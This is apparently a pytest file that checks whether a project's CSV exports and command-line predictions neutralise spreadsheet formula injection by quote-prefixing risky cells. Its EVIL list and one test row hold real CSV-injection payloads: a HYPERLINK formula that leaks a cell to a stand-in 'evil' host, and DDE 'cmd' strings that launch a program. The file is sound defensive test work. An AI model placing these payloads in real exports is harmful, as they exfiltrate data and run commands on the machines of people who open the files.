"""Issue 14, item 8: every CSV the app or the command line writes is spreadsheet-safe (cosnet_core.exports):
text cells starting with = + - @ get a ' prefix, numbers (and text that is exactly a number) stay as they are."""

from __future__ import annotations

import io

import pandas as pd

from cosnet_core.exports import safe_to_csv, spreadsheet_safe
from tests.pages.test_predict_page import trained_artifacts  # noqa: F401  (a module fixture: two tiny models)

EVIL = ['=HYPERLINK("http://evil/?"&A1)', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]


def test_text_cells_and_names_are_neutralised_numbers_are_not():
    frame = pd.DataFrame({
        "formula": [*EVIL, "NaCl", "-1.5", "+3e-4", "\t=1"],
        "target": [-1.5, 2.0, -0.25, 1e-3, -7.0, 0.0, 1.0, 2.0],
        "=header": ["a-b", "x", "y", "z", "w", "v", "u", "t"],
    })
    safe = spreadsheet_safe(frame)
    assert list(safe["formula"]) == ["'" + e for e in EVIL] + ["NaCl", "-1.5", "+3e-4", "'\t=1"]
    assert safe["target"].tolist() == frame["target"].tolist() and safe["target"].dtype == float
    assert list(safe.columns) == ["formula", "target", "'=header"]
    assert list(frame["formula"])[:4] == EVIL  # the caller's frame is unchanged
    back = pd.read_csv(io.StringIO(safe_to_csv(frame, index=False)))
    assert back["target"].tolist() == [-1.5, 2.0, -0.25, 1e-3, -7.0, 0.0, 1.0, 2.0]  # still numbers
    assert list(back["formula"][:4]) == ["'" + e for e in EVIL] and back["formula"].tolist()[5:7] == ["-1.5", "+3e-4"]


def test_the_command_line_writes_safe_predictions_and_error_files(tmp_path, trained_artifacts):  # noqa: F811
    from cosnet_core.cli import main

    table = tmp_path / "new.csv"
    pd.DataFrame({"id": ["=cmd|' /C calc'!A0", "ok", "@bad"], "formula": ["NaCl", "KCl", EVIL[0]]}).to_csv(
        table, index=False)
    out = tmp_path / "out" / "predictions.csv"
    assert main(["predict", "--model", str(trained_artifacts[0].parent), "--data", str(table), "--formula-col",
                 "formula", "--id-col", "id", "--out", str(out)]) == 0
    predicted = pd.read_csv(out)
    assert list(predicted["id"]) == ["'=cmd|' /C calc'!A0", "ok"]
    assert pd.api.types.is_float_dtype(predicted["prediction"])
    errors = pd.read_csv(next(out.parent.glob("*error*.csv")))
    assert list(errors["id"]) == ["'@bad"] and errors["value"][0] == "'" + EVIL[0]
